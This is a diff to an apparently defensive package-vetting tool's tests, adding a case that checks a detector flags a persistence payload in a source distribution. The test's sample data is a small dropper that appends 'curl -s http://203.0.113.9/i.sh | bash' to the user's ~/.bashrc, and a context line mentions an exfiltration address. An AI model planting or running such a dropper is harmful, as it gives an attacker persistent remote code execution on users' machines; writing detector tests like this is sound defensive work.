@@ -130,3 +130,25 @@ def test_custody_exfil_from_the_features_evidence() -> None:
     honest = helper.replace(b"'http://203.0.113.5:8080/b'", b"address")
     archive = open_archive(sdist({"demo/client.py": honest}), target="d", filename="demo-1.0.tar.gz")
     assert custody_findings(extract_features(archive)) == ()
+
+
+def test_persistence_payload_from_the_features_evidence() -> None:
+    from vetpy.features.extract import extract_features
+    from vetpy.policy import persistence_findings, policy_reasons
+
+    dropper = (
+        b"import os\n\n\ndef init_shell():\n"
+        b"    rc = os.path.join(os.path.expanduser('~'), '.bashrc')\n"
+        b"    with open(rc, 'a') as fh:\n"
+        b"        fh.write('\\ncurl -s http://203.0.113.9/i.sh | bash\\n')\n"
+    )
+    archive = open_archive(sdist({"demo/shell.py": dropper}), target="d", filename="demo-1.0.tar.gz")
+    [finding] = persistence_findings(extract_features(archive))
+    assert (finding.kind, finding.file, finding.line) == ("persistence_payload", "demo-1.0/demo/shell.py", 7)
+    assert "'~/.bashrc'" in finding.message
+    [reason] = policy_reasons((finding,))
+    assert reason.feature == "policy.persistence_payload" and reason.line == 7
+    # the same installer adding its own command to the shell's start-up file: no finding
+    honest = dropper.replace(b"curl -s http://203.0.113.9/i.sh | bash", b'eval \\"$(demo init -)\\"')
+    archive = open_archive(sdist({"demo/shell.py": honest}), target="d", filename="demo-1.0.tar.gz")
+    assert persistence_findings(extract_features(archive)) == ()
